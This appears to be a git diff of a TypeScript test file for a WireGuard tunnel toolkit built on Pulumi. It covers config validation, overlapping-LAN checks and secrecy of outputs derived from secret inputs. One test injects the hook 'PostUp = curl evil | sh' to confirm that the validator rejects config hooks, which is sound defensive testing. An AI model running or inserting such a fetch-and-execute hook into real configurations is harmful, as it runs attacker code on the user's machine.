@@ -51,10 +51,10 @@ describe("ClientTunnel (SDK mocks)", () => {
   });
 
   it("rejects provider confs that would run hooks, and split-tunnel options without a table", () => {
-    rejects(() => new ClientTunnel("x", { config: providerConf.replace("[Peer]", "PostUp = curl evil | sh\n\n[Peer]") }), "config", "hooks-not-allowed");
-    rejects(() => new ClientTunnel("x", { config: providerConf, routeDestinations: ["10.0.0.0/8"] }), "routeDestinations", "needs-table");
-    rejects(() => new ClientTunnel("x", { config: providerConf, table: "main" }), "table", "table");
-    rejects(() => new ClientTunnel("x", { config: providerConf + "[Interface]\n" }), "config:line 10", "duplicate-interface");
+    rejects(() => new ClientTunnel("xx", { config: providerConf.replace("[Peer]", "PostUp = curl evil | sh\n\n[Peer]") }), "config", "hooks-not-allowed");
+    rejects(() => new ClientTunnel("xx", { config: providerConf, routeDestinations: ["10.0.0.0/8"] }), "routeDestinations", "needs-table");
+    rejects(() => new ClientTunnel("xx", { config: providerConf, table: "main" }), "table", "reserved-table");
+    rejects(() => new ClientTunnel("xx", { config: providerConf + "[Interface]\n" }), "config:line 10", "duplicate-interface");
   });
 });
 
@@ -84,12 +84,80 @@ describe("SiteLink (SDK mocks)", () => {
     await value(l.siteA.install.stdout);
     await settle();
     assert.deepEqual(parseWgQuick(await value(l.siteA.config)).interface.address, ["10.255.14.1/24"]);
-    assert.ok(m.byType("command:local:Command").some((r) => r.name === "bare-a-install"));
+    assert.ok(m.byType("command:local:Command").some((r) => r.name === "bare--a-install"));
   });
 
   it("rejects overlapping LANs and links where nobody can dial", () => {
-    rejects(() => new SiteLink("l", { siteA: { name: "a", lans: ["192.168.1.0/24"], endpoint: "a.example.com:51820" }, siteB: { name: "b", lans: ["192.168.0.0/16"] } }), "siteB.lans[0]", "overlap");
-    rejects(() => new SiteLink("l", { siteA: { name: "a", lans: ["192.168.1.0/24"] }, siteB: { name: "b", lans: ["192.168.2.0/24"] } }), "siteA.endpoint", "no-endpoint");
-    rejects(() => new SiteLink("l", { siteA: { name: "a", lans: ["10.255.13.0/24"], endpoint: "a.example.com:51820" }, siteB: { name: "b", lans: ["192.168.2.0/24"] } }), "siteA.lans[0]", "overlap");
+    rejects(() => new SiteLink("ll", { siteA: { name: "a", lans: ["192.168.1.0/24"], endpoint: "a.example.com:51820" }, siteB: { name: "b", lans: ["192.168.0.0/16"] } }), "siteB.lans[0]", "overlap");
+    rejects(() => new SiteLink("ll", { siteA: { name: "a", lans: ["192.168.1.0/24"] }, siteB: { name: "b", lans: ["192.168.2.0/24"] } }), "siteA.endpoint", "no-endpoint");
+    rejects(() => new SiteLink("ll", { siteA: { name: "a", lans: ["10.255.13.0/24"], endpoint: "a.example.com:51820" }, siteB: { name: "b", lans: ["192.168.2.0/24"] } }), "siteA.lans[0]", "overlap");
+  });
+});
+
+/**
+ * Issue 13, class 2: an output derived from an input the user marked secret stays secret; only
+ * values derived purely from key material (public keys) are made plain. Under the SDK mocks with
+ * `pulumi.secret(...)` inputs; each case is paired with the same program on plain inputs, so the
+ * check can fail both ways.
+ */
+describe("Secrecy of user secrets (SDK mocks)", () => {
+  const link = (secretize: boolean) => {
+    const s = <T>(v: T) => (secretize ? pulumi.secret(v) : v);
+    return new SiteLink("sec", {
+      tunnelSubnet: s("10.255.20.0/30") as never,
+      siteA: { name: "home", lans: s(["192.168.1.0/24"]) as never, endpoint: s("home.example.com:51820") as never },
+      siteB: { name: "office", lans: [s("192.168.2.0/24") as never] },
+    });
+  };
+  for (const secretize of [true, false]) {
+    it(`SiteLink: address and routes are ${secretize ? "secret when tunnelSubnet and LANs are secret" : "plain when nothing is secret"}; public keys always plain`, async () => {
+      useMocks(new RecordingMocks());
+      const l = link(secretize);
+      assert.equal(await pulumi.isSecret(l.siteA.address), secretize, "address comes from tunnelSubnet");
+      assert.equal(await pulumi.isSecret(l.siteA.routes), secretize, "siteA's routes come from siteB's LANs");
+      assert.equal(await pulumi.isSecret(l.siteB.routes), secretize, "siteB's routes come from siteA's LANs");
+      assert.equal(await pulumi.isSecret(l.siteA.publicKey), false);
+      assert.equal(await pulumi.isSecret(l.siteB.publicKey), false);
+      assert.equal(await pulumi.isSecret(l.siteA.config), true);
+      assert.equal(await value(l.siteA.address), "10.255.20.1");
+      assert.deepEqual(await value(l.siteB.routes), ["ip route add 192.168.1.0/24 via 198.18.0.2"]);
+      await settle();
+    });
+  }
+
+  it("SiteLink: a secret on one side only keeps exactly the outputs derived from it secret", async () => {
+    useMocks(new RecordingMocks());
+    const l = new SiteLink("half", {
+      siteA: { name: "home", lans: [pulumi.secret("192.168.1.0/24")], endpoint: "home.example.com:51820" },
+      siteB: { name: "office", lans: ["192.168.2.0/24"] },
+    });
+    assert.equal(await pulumi.isSecret(l.siteB.routes), true, "siteB routes to siteA's (secret) LAN");
+    assert.equal(await pulumi.isSecret(l.siteA.routes), false, "siteA routes to siteB's plain LAN");
+    assert.equal(await pulumi.isSecret(l.siteA.address), false);
+    await settle();
+  });
+
+  for (const secretize of [true, false]) {
+    it(`ClientTunnel: addresses ${secretize ? "stay secret for a secret conf" : "are plain for a plain conf"}; the public key is plain either way`, async () => {
+      useMocks(new RecordingMocks());
+      const t = new ClientTunnel("sec", { config: secretize ? pulumi.secret(providerConf) : providerConf, dns: [pulumi.secret("10.64.0.1")] as never });
+      assert.equal(await pulumi.isSecret(t.addresses), secretize);
+      assert.equal(await pulumi.isSecret(t.publicKey), false);
+      assert.equal(await value(t.publicKey), me.publicKey);
+      assert.deepEqual(await value(t.addresses), ["10.64.12.7/32"]);
+      assert.equal(await pulumi.isSecret(t.config), true);
+      await settle();
+    });
+  }
+
+  it("ClientTunnel: a bad value resolved from a secret Output fails without showing it", async () => {
+    useMocks(new RecordingMocks());
+    const t = new ClientTunnel("sec2", { config: providerConf, dns: pulumi.secret(["secret-resolver..example"]) as never });
+    await assert.rejects(value(t.config), (e: unknown) => {
+      assert.ok(e instanceof WgKitError, String(e));
+      assert.equal(e.field, "dns[0]");
+      assert.ok(!e.message.includes("secret-resolver"), e.message);
+      return true;
+    });
   });
 });
